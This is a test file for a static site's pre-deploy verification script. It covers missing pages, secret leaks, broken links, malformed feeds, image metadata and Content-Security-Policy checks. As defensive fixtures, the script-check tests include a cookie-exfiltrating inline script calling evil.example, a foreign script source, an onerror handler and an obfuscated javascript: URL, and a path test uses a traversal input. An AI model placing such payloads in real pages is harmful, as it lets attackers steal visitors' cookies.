/**
 * The deploy gate (`npm run verify`) over small built sites written to a temporary folder: a
 * complete one passes, and each way a build can go wrong fails with a reason that names it.
 */
import { Buffer } from 'node:buffer';
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { close as closePagefind, createIndex } from 'pagefind';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { configurationWarnings } from '../../scripts/verify/configuration.ts';
import { writeFingerprints } from '../../scripts/verify/fingerprints.ts';
import { cssReferences, internalTarget, srcsetUrls } from '../../scripts/verify/links.ts';
import { type BuildManifest, checkCollections } from '../../scripts/verify/manifest.ts';
import { expectedPages, FIXED_ROUTES, readSnapshot } from '../../scripts/verify/pages.ts';
import type { Problem } from '../../scripts/verify/problem.ts';
import { formatReport } from '../../scripts/verify/report.ts';
import { runVerify, type VerifyOptions } from '../../scripts/verify/run.ts';
import { scriptHash } from '../../scripts/verify/scripts.ts';
import { decompressPagefind, encodingsOf, fingerprintSecrets, secretsFromEnv } from '../../scripts/verify/secrets.ts';
import { checkPageSizes, DEFAULT_PAGE_SIZE_LIMITS, formatBytes, parseBytes } from '../../scripts/verify/sizes.ts';
import { type Snapshot, writeBuildManifest } from '../../src/integrations/build-manifest.ts';
import { CSP_DIRECTIVES, contentSecurityPolicy, inlineScriptHashes, pagePolicy } from '../../src/integrations/csp.ts';
import {
  formatHeadersFile,
  headerPolicy,
  headerRules,
  headersForPath,
  parseHeadersFile,
} from '../../src/integrations/headers.ts';
import type { Resolution } from '../../src/integrations/hosts.ts';
import { scanTags } from '../../src/integrations/html-scan.ts';
import { preparePublication } from '../../src/integrations/publication.ts';
import { pagePathOf, resolveSitePath } from '../../src/integrations/site-files.ts';
import { followOnHost, mirrorOf, resolveOnHost, treeOf } from '../../src/integrations/static-hosting.ts';
import { readSiteConfig } from '../../src/lib/config.ts';

const exec = promisify(execFile);
const ROOT = path.resolve(import.meta.dirname, '../..');
const SITE_ORIGIN = 'https://turismo.example.com.br';
const SECRET = 'prov-token-5f2a9c1e7d';

/** Our one inline script (like the 404 page's) and the policy that allows it. */
const OWN_INLINE = "document.documentElement.dataset.ready='1'";
const policy = (hashes: string[]) =>
  `default-src 'self'; script-src 'self' ${hashes.map((hash) => `'${hash}'`).join(' ')}; style-src 'self'`;

const SNAPSHOT: Record<string, { id: string; path?: string | null }[]> = {
  city: [{ id: '1' }],
  tours: [{ id: '101' }, { id: '102' }],
  accommodation: [{ id: '201' }],
  restaurants: [],
  events: [{ id: '401' }],
  drivers: [],
  guides: [],
  agencies: [],
  tourProviders: [],
  experiences: [{ id: '7' }],
  testimonials: [{ id: '11' }],
  news: [{ id: '1008' }],
  // The guide in Portuguese and in Spanish (whose home page, /es, the build has too), a section without an address.
  blogPages: [
    { id: '210', path: '/guia' },
    { id: '214', path: '/es/guia' },
    { id: '221', path: null },
  ],
  episodes: [{ id: 'ep1' }],
};

function page(body: string, options: { hashes?: string[]; head?: string } = {}): string {
  const hashes = options.hashes ?? [scriptHash(OWN_INLINE)];
  return `<!doctype html><html lang="pt-BR"><head><meta charset="utf-8">
<meta http-equiv="content-security-policy" content="${policy(hashes)}">
<link rel="stylesheet" href="/_astro/site.css"><link rel="canonical" href="${SITE_ORIGIN}/">
<script type="application/ld+json">{"@type":"Thing","description":"<b onclick=x>not markup</b>"}</script>
${options.head ?? ''}</head><body><a href="/">Início</a> <a href="/all-tours#lista">Passeios</a>
<img src="/images/logo.svg" srcset="/images/logo.svg 1x, /images/logo.svg 2x" alt="">
<script type="module" src="/_astro/page.js"></script><script>${OWN_INLINE}</script>
${body}</body></html>`;
}

/** The news feed as @astrojs/rss writes it, with one item titled `title` (raw XML). */
const feed = (title: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Notícias</title><link>${SITE_ORIGIN}/</link>` +
  `<item><title>${title}</title><link>${SITE_ORIGIN}/news/1008</link></item></channel></rss>`;

interface Fixture {
  root: string;
  dist: string;
  snapshot: string;
  options(overrides?: Partial<VerifyOptions>): VerifyOptions;
  write(file: string, content: string | Uint8Array): Promise<void>;
}

/** A complete small site: every fixed route, one page per snapshot item, its assets and manifest. */
async function makeFixture(): Promise<Fixture> {
  const root = await mkdtemp(path.join(tmpdir(), 'verify-'));
  const dist = path.join(root, 'dist');
  const snapshot = path.join(root, 'snapshot');
  const write = async (file: string, content: string | Uint8Array) => {
    await mkdir(path.dirname(path.join(dist, file)), { recursive: true });
    await writeFile(path.join(dist, file), content);
  };
  await mkdir(snapshot, { recursive: true });
  for (const [name, entries] of Object.entries(SNAPSHOT)) {
    await writeFile(path.join(snapshot, `${name}.json`), JSON.stringify(entries));
  }
  const pages = expectedPages(SNAPSHOT as Snapshot);
  for (const { path: sitePath } of pages) {
    const file = sitePath === '/' ? 'index.html' : `${decodeURIComponent(sitePath.slice(1))}.html`;
    const extra = sitePath === '/all-tours' ? '<ul id="lista"><li><a href="/tour/101">101</a></li></ul>' : '';
    await write(file, page(extra));
  }
  await write('_astro/page.js', 'export {};');
  await write('_astro/site.css', 'body{background:url(/images/logo.svg)}@font-face{src:url("./poppins.woff2")}');
  await write('_astro/poppins.woff2', 'font');
  await write('images/logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>');
  await write(
    'sitemap-0.xml',
    `<?xml version="1.0"?><urlset><url><loc>${SITE_ORIGIN}/</loc></url><url><loc>${SITE_ORIGIN}/tour/101?a=1&amp;b=2</loc></url></urlset>`,
  );
  await write('news/rss.xml', feed('Festival de Pesca &amp; Praia'));
  await writeBuildManifest(dist, snapshot, root);
  await preparePublication(dist, 'any');
  return {
    root,
    dist,
    snapshot,
    write,
    options: (overrides = {}) => ({
      distDir: dist,
      snapshotDir: snapshot,
      previous: null,
      allowShrink: false,
      allowGrowth: false,
      fingerprints: fingerprintSecrets([{ name: 'PROVIDER_API_TOKEN', value: SECRET }]),
      siteOrigin: SITE_ORIGIN,
      // Every page at /x and /x/ on either order: the strictest layout (each host's own is tested below).
      host: 'any' as const,
      ...overrides,
    }),
  };
}

/** Removes a page as a build that did not make it would lack it: its file and its folder form. */
async function removePage(dist: string, file: string): Promise<void> {
  await unlink(path.join(dist, file));
  await unlink(path.join(dist, mirrorOf(file) ?? file)).catch(() => undefined);
}

const messages = (problems: readonly Problem[], gate: Problem['gate']) =>
  problems.filter((problem) => problem.gate === gate).map((problem) => problem.message);

let fixture: Fixture;
beforeEach(async () => {
  fixture = await makeFixture();
});
afterEach(async () => {
  await rm(fixture.root, { recursive: true, force: true });
});

describe('runVerify', () => {
  it('passes a complete site', async () => {
    const result = await runVerify(fixture.options());
    expect(result.problems).toEqual([]);
    expect(result.stats.expectedPages).toBe(FIXED_ROUTES.length + 7 + 3);
  });

  it('fails on a missing item page, naming the page and the item', async () => {
    await removePage(fixture.dist, 'tour/102.html');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'pages')).toEqual(['The page /tour/102 (tours item 102) was not built.']);
  });

  it("fails on a missing page of the visitor's guide, and on a missing home page of a language it is in", async () => {
    await removePage(fixture.dist, 'es/guia.html');
    await removePage(fixture.dist, 'es.html');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'pages')).toEqual([
      'The page /es/guia (blog page 214 at /es/guia) was not built.',
      'The page /es (the home page in es) was not built.',
    ]);
  });

  it('fails on a missing route of the route table', async () => {
    await removePage(fixture.dist, 'all-drivers.html');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'pages')).toEqual(['The page /all-drivers (route of the route table) was not built.']);
  });

  it('fails on a collection emptied since the last published site, and passes it with the override', async () => {
    const previous = (await readManifestFile(fixture.dist)) as BuildManifest;
    await writeFile(path.join(fixture.snapshot, 'testimonials.json'), '[]');
    await writeBuildManifest(fixture.dist, fixture.snapshot, fixture.root);
    const { problems } = await runVerify(fixture.options({ previous }));
    expect(messages(problems, 'collections')).toEqual([
      expect.stringMatching(
        /^The collection testimonials is empty, but the last published site had 1 entries\. .*--allow-shrink/,
      ),
    ]);
    expect((await runVerify(fixture.options({ previous, allowShrink: true }))).problems).toEqual([]);
  });

  it('fails when the site was built from other data than the snapshot checked', async () => {
    await writeFile(path.join(fixture.snapshot, 'events.json'), '[]');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'collections')).toEqual([
      'The site was built from other data than the snapshot being checked (events: 1 in the build, 0 in the snapshot).',
    ]);
  });

  it.each([
    ['as it is', SECRET],
    ['URL-encoded', encodeURIComponent(`${SECRET}/x`)],
    ['base64-encoded', Buffer.from(SECRET).toString('base64')],
  ])('fails on a secret planted in dist/ (%s), without printing it', async (form, planted) => {
    await fixture.write('_astro/chunk.js', `const leaked = "${planted}";`);
    const options = fixture.options();
    if (form === 'URL-encoded') options.fingerprints = fingerprintSecrets([{ name: 'PROVIDER_API_TOKEN', value: `${SECRET}/x` }]);
    const { problems } = await runVerify(options);
    expect(messages(problems, 'secrets')).toEqual([`_astro/chunk.js contains the value of PROVIDER_API_TOKEN (${form}).`]);
    expect(formatReport(problems)).not.toContain(SECRET);
  });

  it('fails on a broken internal link, once per target with the pages that link to it', async () => {
    await fixture.write('about.html', page('<a href="/tour/999">Passeio antigo</a><a href="../tour/999">de novo</a>'));
    await fixture.write(
      'contato.html',
      page(`<a href="${SITE_ORIGIN}/tour/999">x</a><a href="https://elsewhere.example/y">ok</a>`),
    );
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'links')).toEqual(['/tour/999 does not exist (linked from about.html, contato.html).']);
  });

  it('fails on a page the sitemap lists but the build does not have', async () => {
    await fixture.write('sitemap-0.xml', `<urlset><url><loc>${SITE_ORIGIN}/tour/103</loc></url></urlset>`);
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'links')).toEqual(['/tour/103 does not exist (linked from sitemap-0.xml).']);
  });

  it.each([
    [
      'a title with U+FFFE',
      'news/rss.xml',
      feed('Festa\ufffe'),
      /line 1, column \d+: the character U\+FFFE is not allowed in XML/,
    ],
    ['a title with U+0001', 'news/rss.xml', feed('Festa\u0001'), /the character U\+0001 is not allowed in XML/],
    [
      'a lone surrogate (its UTF-8 form, as a careless encoder writes it)',
      'news/rss.xml',
      Buffer.concat(
        feed('Festa|')
          .split('|')
          .flatMap((part, index) => [...(index ? [Buffer.from([0xed, 0xa0, 0x80])] : []), Buffer.from(part)]),
      ),
      /its bytes are not valid UTF-8/,
    ],
    ['a reference to a forbidden character', 'news/rss.xml', feed('Festa&#1;'), /&#1; refers to a character not allowed/],
    ['an HTML entity', 'news/rss.xml', feed('Festa&nbsp;2026'), /the entity &nbsp; is not defined/],
    ['an unclosed element', 'sitemap-0.xml', `<urlset><url><loc>${SITE_ORIGIN}/</loc></urlset>`, /line 1, column \d+: .*'url'/],
    [
      'U+FFFF in the sitemap index',
      'sitemap-index.xml',
      `<sitemapindex><sitemap><loc>${SITE_ORIGIN}/sitemap-0.xml\uffff</loc></sitemap></sitemapindex>`,
      /U\+FFFF/,
    ],
  ])('fails on a feed or a sitemap that is not well-formed: %s, naming the file', async (_what, file, content, reason) => {
    await fixture.write(file, content);
    const { problems } = await runVerify(fixture.options());
    const reader = file === 'news/rss.xml' ? 'feed readers' : 'search engines';
    expect(messages(problems, 'xml')).toEqual([
      expect.stringMatching(new RegExp(`^${file.replace('.', '\\.')} is not well-formed XML \\(`)),
    ]);
    expect(messages(problems, 'xml')[0]).toMatch(reason);
    expect(messages(problems, 'xml')[0]).toMatch(new RegExp(`\\): ${reader} refuse the whole file\\.$`));
  });

  it('passes a feed with CDATA, character references and characters outside the BMP; fails without a feed', async () => {
    await fixture.write('news/rss.xml', feed('Caf&#xE9; &#233; 😀\t<![CDATA[a &nbsp; b]]><!-- & -->'));
    expect((await runVerify(fixture.options())).problems).toEqual([]);
    await unlink(path.join(fixture.dist, 'news/rss.xml'));
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'xml')).toEqual([
      'news/rss.xml is missing: feed readers subscribed to the news would get an error.',
    ]);
  });

  it.each([
    ['an original copied under an AVIF name', '_astro/foto.Xy12_1a2b.avif', 'jpeg', {}, /is a JPEG, not an AVIF: /],
    ['an animated GIF copied under a WebP name', '_astro/anim.Xy12_1a2b.webp', 'gif', {}, /is a GIF, not a WebP: /],
    [
      'a JPEG with the place it was taken',
      '_astro/foto.Xy12_1a2b.jpg',
      'jpeg',
      { IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '15/1 4/1 0/1' } },
      / carries a GPS location \(in its EXIF\): /,
    ],
  ] as const)('fails on an image in dist/: %s, naming the file', async (_what, file, format, exif, reason) => {
    const image = () => sharp({ create: { width: 8, height: 8, channels: 3, background: '#3a6' } });
    await fixture.write(file, await (format === 'gif' ? image().gif() : image().jpeg().withExif(exif)).toBuffer());
    // Next to it, an encode as the build makes them: passes.
    await fixture.write('_astro/ok.Xy12_9f8e.avif', await image().avif({ effort: 0 }).toBuffer());
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'images')).toEqual([expect.stringMatching(new RegExp(`^${file.replaceAll('.', '\\.')}`))]);
    expect(messages(problems, 'images')[0]).toMatch(reason);
  });

  it('fails on a missing asset, a missing anchor, a missing sprite icon and a missing font of a stylesheet', async () => {
    await unlink(path.join(fixture.dist, '_astro/poppins.woff2'));
    await fixture.write(
      'about.html',
      page(
        '<img src="/images/gone.avif" alt=""><a href="/all-tours#nada">x</a>' +
          '<svg><symbol id="icon-pin"></symbol></svg><svg><use href="#icon-pin"></use></svg><svg><use href="#icon-heart"></use></svg>',
      ),
    );
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'links').sort()).toEqual([
      '/_astro/poppins.woff2 does not exist (linked from _astro/site.css).',
      '/about#icon-heart does not exist (linked from about.html).',
      '/all-tours#nada does not exist (linked from about.html).',
      '/images/gone.avif does not exist (linked from about.html).',
    ]);
  });

  it.each([
    [
      'a foreign inline script',
      '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
      /an inline script that our build did not put there .*evil\.example/,
    ],
    [
      'a script from another site',
      '<script src="https://cdn.evil.example/x.js"></script>',
      /a script is loaded from https:\/\/cdn\.evil\.example\/x\.js/,
    ],
    [
      'an inline event handler',
      '<img src="/images/logo.svg" alt="" onerror="alert(1)">',
      /an inline event handler onerror="alert\(1\)" on <img>/,
    ],
    ['a javascript: URL', '<a href=" jav&#x09;ascript:alert(1)">x</a>', /a javascript: URL in href on <a>/],
  ])('fails on %s', async (_name, markup, reason) => {
    await fixture.write('news/1008.html', page(markup));
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'scripts')).toEqual([expect.stringMatching(reason)]);
    expect(messages(problems, 'scripts')[0]).toMatch(/^news\/1008\.html: /);
  });

  it('fails on a page without a Content-Security-Policy', async () => {
    await fixture.write('about.html', page('').replace(/<meta http-equiv="content-security-policy"[^>]*>/, ''));
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'scripts')).toContain(
      'about.html: the page has no Content-Security-Policy, so nothing stops a foreign script from running.',
    );
  });

  it('reports a missing build as one plain reason', async () => {
    const { problems } = await runVerify(fixture.options({ distDir: path.join(fixture.root, 'nowhere') }));
    expect(problems).toEqual([
      {
        gate: 'pages',
        message: expect.stringMatching(/^There is no built site in .*nowhere: run the build first\.$/),
        editor: expect.stringMatching(/^Não há site construído para verificar: /),
      },
    ]);
  });
});

async function readManifestFile(dist: string): Promise<unknown> {
  return JSON.parse(await readFile(path.join(dist, 'build-manifest.json'), 'utf8'));
}

/** Only what the command needs: the secrets it searches for come from the test, not from this machine. */
const BASE_ENV = { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '', SITE_URL: SITE_ORIGIN };

describe('the command', () => {
  it('exits 1 and prints every reason under its heading; exits 0 on a good site', async () => {
    const env = { ...BASE_ENV, PROVIDER_API_TOKEN: SECRET, SNAPSHOT_DIR: fixture.snapshot };
    const args = ['scripts/verify.ts', '--dist', fixture.dist];
    const ok = await exec(process.execPath, args, { cwd: ROOT, env });
    expect(ok.stdout).toMatch(/^verify: ok in .* 1 secret\(s\) searched for/m);
    // The editors' line in the run's summary; no refusal note (a refusal's: verify-editor.test.ts).
    const summary = path.join(fixture.root, 'summary.md');
    const refusal = path.join(fixture.root, 'refusal.json');
    const editorsEnv = { ...env, GITHUB_STEP_SUMMARY: summary, VERIFY_REFUSAL_FILE: refusal, ALLOW_SHRINK: 'true' };
    await exec(process.execPath, args, { cwd: ROOT, env: editorsEnv });
    expect(await readFile(summary, 'utf8')).toBe(
      '### O site passou na verificação final\n\n' +
        `O site passou por todas as verificações e será publicado: ${FIXED_ROUTES.length + 7 + 3} páginas.\n` +
        'Nesta publicação foram aceitas, como pedido, coleções menores que a metade (allow\\_shrink).\n\n',
    );
    await expect(readFile(refusal, 'utf8')).rejects.toThrow(/ENOENT/);

    await removePage(fixture.dist, 'experience/7.html');
    await fixture.write('_astro/leak.js', SECRET);
    const failed = await exec(process.execPath, args, { cwd: ROOT, env }).then(
      () => null,
      (error: { code: number; stderr: string }) => error,
    );
    expect(failed?.code).toBe(1);
    expect(failed?.stderr).toContain('Missing pages (1):\n  - The page /experience/7 (experiences item 7) was not built.');
    expect(failed?.stderr).toContain(
      'Secrets in the built site (1):\n  - _astro/leak.js contains the value of PROVIDER_API_TOKEN (as it is).',
    );
    expect(failed?.stderr).toContain('The current site stays online.');
    expect(failed?.stderr).not.toContain(SECRET);
  });

  it('searches for the fingerprints SECRET_FINGERPRINTS_FILE names, without the secret; refuses to start without them', async () => {
    const file = path.join(fixture.root, 'secret-fingerprints.json');
    await writeFingerprints(file, fingerprintSecrets([{ name: 'PROVIDER_API_TOKEN', value: SECRET }]));
    const env = { ...BASE_ENV, SNAPSHOT_DIR: fixture.snapshot, SECRET_FINGERPRINTS_FILE: file };
    const args = ['scripts/verify.ts', '--dist', fixture.dist];
    const ok = await exec(process.execPath, args, { cwd: ROOT, env });
    expect(ok.stdout).toMatch(/^verify: ok in .* 1 secret\(s\) searched for/m);

    await fixture.write('_astro/leak.js', `"${SECRET}"`);
    const refused = await exec(process.execPath, args, { cwd: ROOT, env }).then(
      () => null,
      (error: { code: number; stderr: string }) => error,
    );
    expect(refused?.code).toBe(1);
    expect(refused?.stderr).toContain('_astro/leak.js contains the value of PROVIDER_API_TOKEN (as it is).');

    const missing = { ...env, SECRET_FINGERPRINTS_FILE: path.join(fixture.root, 'none.json') };
    const stopped = await exec(process.execPath, args, { cwd: ROOT, env: missing }).then(
      () => null,
      (error: { code: number; stderr: string }) => error,
    );
    expect(stopped?.code).toBe(1);
    expect(stopped?.stderr).toMatch(/^verify: SECRET_FINGERPRINTS_FILE cannot be read: ENOENT/m);
  });

  it('compares with the previous manifest given by VERIFY_PREVIOUS_MANIFEST', async () => {
    const previousFile = path.join(fixture.root, 'previous.json');
    const previous = { ...((await readManifestFile(fixture.dist)) as BuildManifest) };
    previous.counts = { ...previous.counts, tours: 5 };
    await writeFile(previousFile, JSON.stringify(previous));
    const env = { ...BASE_ENV, SNAPSHOT_DIR: fixture.snapshot, VERIFY_PREVIOUS_MANIFEST: previousFile };
    const failed = await exec(process.execPath, ['scripts/verify.ts', '--dist', fixture.dist], { cwd: ROOT, env }).catch(
      (error: { code: number; stderr: string }) => error,
    );
    expect(failed).toMatchObject({ code: 1 });
    expect((failed as { stderr: string }).stderr).toContain('The collection tours has 2 entries, less than half of the 5');
    const allowed = await exec(process.execPath, ['scripts/verify.ts', '--dist', fixture.dist], {
      cwd: ROOT,
      env: { ...env, ALLOW_SHRINK: 'true' },
    });
    expect(allowed.stdout).toContain('(shrinking allowed)');
  });

  it.each([
    ['--allow-growth', ['--allow-growth'], {}],
    ['ALLOW_GROWTH=true', [], { ALLOW_GROWTH: 'true' }],
  ])('takes %s', async (_name, flags, variables) => {
    const env = { ...BASE_ENV, SNAPSHOT_DIR: fixture.snapshot, ...variables };
    const { stdout } = await exec(process.execPath, ['scripts/verify.ts', '--dist', fixture.dist, ...flags], { cwd: ROOT, env });
    expect(stdout).toMatch(/^verify: ok in .*\(growth allowed\)\.$/m);
  });
});

describe('checkCollections', () => {
  const manifest = (counts: BuildManifest['counts']): BuildManifest => ({ version: 1, builtAt: '', snapshotDir: 's', counts });
  const snapshotOf = (counts: Record<string, number>): Snapshot =>
    Object.fromEntries(
      Object.entries(counts).map(([name, count]) => [name, Array.from({ length: count }, (_, id) => ({ id: String(id) }))]),
    );

  it.each([
    ['the same counts', { city: 1, tours: 10 }, { city: 1, tours: 10 }, []],
    ['exactly half', { city: 1, tours: 10 }, { city: 1, tours: 5 }, []],
    [
      'less than half',
      { city: 1, tours: 10 },
      { city: 1, tours: 4 },
      ['The collection tours has 4 entries, less than half of the 10'],
    ],
    [
      'emptied',
      { city: 1, tours: 10, news: 3 },
      { city: 1, tours: 10, news: 0 },
      ['The collection news is empty, but the last published site had 3'],
    ],
    ['grown from nothing', { city: 1, tours: 0 }, { city: 1, tours: 3 }, []],
    [
      'grown a hundredfold (40 → 4,000)',
      { city: 1, tours: 40 },
      { city: 1, tours: 4000 },
      ['The collection tours has 4000 entries, 3960 more than the 40 the last published site had (over 10 times'],
    ],
    ['grown tenfold by 500 exactly (50 → 550)', { city: 1, tours: 50 }, { city: 1, tours: 550 }, []],
    ['grown elevenfold by 510 (51 → 561)', { city: 1, tours: 51 }, { city: 1, tours: 561 }, ['The collection tours has 561']],
    ['a small collection grown more than tenfold (3 → 40)', { city: 1, news: 3 }, { city: 1, news: 40 }, []],
    ['a large collection grown by 600 (2,000 → 2,600)', { city: 1, tours: 2000 }, { city: 1, tours: 2600 }, []],
    ['grown from nothing by 500 (0 → 500)', { city: 1, tours: 0 }, { city: 1, tours: 500 }, []],
    [
      'grown from nothing by 501 (0 → 501)',
      { city: 1, tours: 0 },
      { city: 1, tours: 501 },
      ['The collection tours has 501 entries, 501 more than the 0'],
    ],
    ['an empty site', { city: 1, tours: 0 }, { city: 1, tours: 0 }, ['Every collection is empty']],
    [
      'no city',
      { city: 1, tours: 2 },
      { city: 0, tours: 2 },
      ['The collection city is empty', 'The collection city is empty, but'],
    ],
  ])('%s', (_name, before, now, expected) => {
    const snapshot = snapshotOf(now);
    const problems = checkCollections({
      snapshot,
      built: manifest(snapshotToCounts(snapshot)),
      previous: manifest(before),
      allowShrink: false,
      allowGrowth: false,
    });
    expect(problems.map((problem) => problem.message)).toEqual(expected.map((start) => expect.stringContaining(start)));
  });

  it.each([
    ['neither', false, false, ['--allow-growth (ALLOW_GROWTH=true; the deploy workflow\'s "allow_growth" input)']],
    ['only shrinking', true, false, ['--allow-growth (ALLOW_GROWTH=true; the deploy workflow\'s "allow_growth" input)']],
    ['growth', false, true, []],
  ])('a sudden growth with %s allowed', (_name, allowShrink, allowGrowth, expected) => {
    const snapshot = snapshotOf({ city: 1, tours: 4000, news: 2 });
    const problems = checkCollections({
      snapshot,
      built: manifest(snapshotToCounts(snapshot)),
      previous: manifest({ city: 1, tours: 40, news: 2 }),
      allowShrink,
      allowGrowth,
    });
    expect(problems.map((problem) => problem.message)).toEqual(expected.map((end) => expect.stringContaining(end)));
  });

  function snapshotToCounts(snapshot: Snapshot): BuildManifest['counts'] {
    return Object.fromEntries(Object.entries(snapshot).map(([name, entries]) => [name, entries?.length ?? 0]));
  }
});

describe('secrets', () => {
  it('takes the known secrets, credential-like names and an opaque Spotify client id; skips short values', () => {
    const { secrets, tooShort } = secretsFromEnv({
      PROVIDER_API_TOKEN: SECRET,
      SPOTIFY_CLIENT_ID: 'a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6',
      SPOTIFY_CLIENT_SECRET: 'spotify-secret-value',
      DEPLOY_API_KEY: 'k-1234567890',
      REBUILD_TOKEN: 'abc',
      CITY_NAME: 'Barra do Bugres',
    });
    expect(secrets.map((secret) => secret.name)).toEqual([
      'PROVIDER_API_TOKEN',
      'SPOTIFY_CLIENT_SECRET',
      'DEPLOY_API_KEY',
      'SPOTIFY_CLIENT_ID',
      'the Spotify client credentials (HTTP Basic)',
    ]);
    expect(tooShort).toEqual(['REBUILD_TOKEN']);
    expect(secretsFromEnv({ SPOTIFY_CLIENT_ID: 'portal' }).secrets).toEqual([]);
  });

  it('searches each distinct encoding once', () => {
    expect(encodingsOf('plain-value-1').map((encoding) => encoding.form)).toEqual(['as it is', 'base64-encoded']);
    expect(encodingsOf('a/b"c&d~~~?').map((encoding) => encoding.text)).toContain('YS9iImMmZH5-fj8');
    expect(encodingsOf('a/b"c&d~~~?').map((encoding) => encoding.form)).toEqual([
      'as it is',
      'URL-encoded',
      'JSON-escaped',
      'base64-encoded',
      'base64url-encoded',
      'HTML-escaped',
    ]);
  });
});

describe('paths', () => {
  it.each([
    ['index.html', '/'],
    ['tour/101.html', '/tour/101'],
    ['news/page/2.html', '/news/page/2'],
    ['docs/index.html', '/docs'],
  ])('%s is served at %s', (file, sitePath) => {
    expect(pagePathOf(file)).toBe(sitePath);
  });

  it('resolves site paths as a static host does, never outside the site', () => {
    expect(resolveSitePath(fixture.dist, '/tour/101')).toBe(path.join(fixture.dist, 'tour/101.html'));
    expect(resolveSitePath(fixture.dist, '/')).toBe(path.join(fixture.dist, 'index.html'));
    expect(resolveSitePath(fixture.dist, '/_astro/page.js')).toBe(path.join(fixture.dist, '_astro/page.js'));
    expect(resolveSitePath(fixture.dist, '/../snapshot/city.json')).toBeNull();
    expect(resolveSitePath(fixture.dist, '/%E0%A4%A')).toBeNull();
  });

  it.each([
    ['/tour/1', '/about', { path: '/tour/1', anchor: '' }],
    ['1#fotos', '/tour/2', { path: '/tour/1', anchor: 'fotos' }],
    [`${SITE_ORIGIN}/news?page=2`, '/', { path: '/news', anchor: '' }],
    // Our host with `www.` or a trailing dot is ours, as the sync reads it (src/lib/visitor-links.ts); a lookalike is not.
    [`${SITE_ORIGIN.replace('://', '://www.')}/tour/9#x`, '/', { path: '/tour/9', anchor: 'x' }],
    [`${SITE_ORIGIN}./news`, '/', { path: '/news', anchor: '' }],
    [`${SITE_ORIGIN}.evil.example/news`, '/', null],
    ['https://wa.me/5565', '/', null],
    ['mailto:a@b.c', '/', null],
    ['data:image/png;base64,AA', '/', null],
  ])('%s from %s', (url, from, expected) => {
    expect(internalTarget(url, from, SITE_ORIGIN)).toEqual(expected);
  });

  it('reads srcset candidates and stylesheet references', () => {
    expect(srcsetUrls('/a.avif 400w, /b.avif 800w')).toEqual(['/a.avif', '/b.avif']);
    expect(cssReferences(`a{b:url(/x.svg)} @import "./y.css"; c{d:url('z.woff2') url( "w.png" )}`)).toEqual([
      '/x.svg',
      './y.css',
      'z.woff2',
      'w.png',
    ]);
  });
});

describe('the content security policy', () => {
  it('hashes our is:inline scripts verbatim and leaves out what cannot be hashed from the source', async () => {
    const source = path.join(fixture.root, 'src');
    await mkdir(path.join(source, 'pages'), { recursive: true });
    await writeFile(
      path.join(source, 'pages/a.astro'),
      [
        '---\n// JSON in a <script> must not close it.\nconst open = (value) => "<script>" + value;\n---',
        '{items.map((item) => <script type="application/ld+json" set:html={json(item)} />)}',
        '<script is:inline data-shell="x">\n  go(a > b);\n</script><script>bundled()</script>',
        '<script is:inline define:vars={{ x: 1 > 0 }}>x</script><script type="application/ld+json" is:inline>{}</script>',
      ].join('\n'),
    );
    expect(inlineScriptHashes(source)).toEqual([scriptHash('\n  go(a > b);\n')]);
  });

  it('allows our files, WebAssembly for the search and the two embed hosts, nothing else', () => {
    const csp = contentSecurityPolicy(path.join(ROOT, 'src'));
    expect(csp.scriptDirective.resources).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(CSP_DIRECTIVES).toContain('frame-src https://www.google.com https://maps.google.com https://open.spotify.com');
    expect(CSP_DIRECTIVES.join(';')).not.toMatch(/unsafe-inline|unsafe-eval'|\*|https:(?!\/\/)/);
    expect(CSP_DIRECTIVES).toContain("object-src 'none'");
  });
});

/** The trailing-slash guide's test site (file.html, folder/index.html, both.html and both/index.html) and GitLab's `data` case. */
const GUIDE_SITE = treeOf([
  'index.html',
  '404.html',
  'file.html',
  'folder/index.html',
  'both.html',
  'both/index.html',
  'data.html',
  'data/page.html',
]);

describe('static hosts', () => {
  const outcome = (pathname: string, resolution: Resolution) => {
    const { chain, answer } = followOnHost(GUIDE_SITE, pathname, resolution);
    return [...chain.slice(1).map((step) => `→ ${step}`), answer.status === 200 ? answer.file : String(answer.status)].join(' ');
  };

  it.each([
    // path, a file-first host (as GitHub Pages answers), a folder-first host (as GitLab Pages answers)
    ['/file', 'file.html', 'file.html'],
    ['/file/', '404', '404'],
    ['/file.html', 'file.html', 'file.html'],
    ['/folder', '→ /folder/ folder/index.html', '→ /folder/ folder/index.html'],
    ['/folder/', 'folder/index.html', 'folder/index.html'],
    ['/both', 'both.html', '→ /both/ both/index.html'],
    ['/both/', 'both/index.html', 'both/index.html'],
    ['/data', 'data.html', '→ /data/ 404'],
    ['/', 'index.html', 'index.html'],
    ['/../etc/passwd', '404', '404'],
    ['/%E0%A4%A', '404', '404'],
  ])('%s: file-first %s, folder-first %s', (pathname, fileFirst, folderFirst) => {
    expect(outcome(pathname, 'file-first')).toBe(fileFirst);
    expect(outcome(pathname, 'folder-first')).toBe(folderFirst);
  });

  it('answers an unknown path with 404.html, and keeps the query out of the redirect target', () => {
    expect(resolveOnHost(GUIDE_SITE, '/nowhere', 'file-first')).toEqual({ status: 404, file: '404.html' });
    expect(resolveOnHost(treeOf(['x/index.html']), '/x', 'file-first')).toEqual({ status: 301, location: '/x/' });
    expect(resolveOnHost(treeOf(['x/index.html']), '/nowhere', 'file-first')).toEqual({ status: 404, file: null });
  });

  it.each([
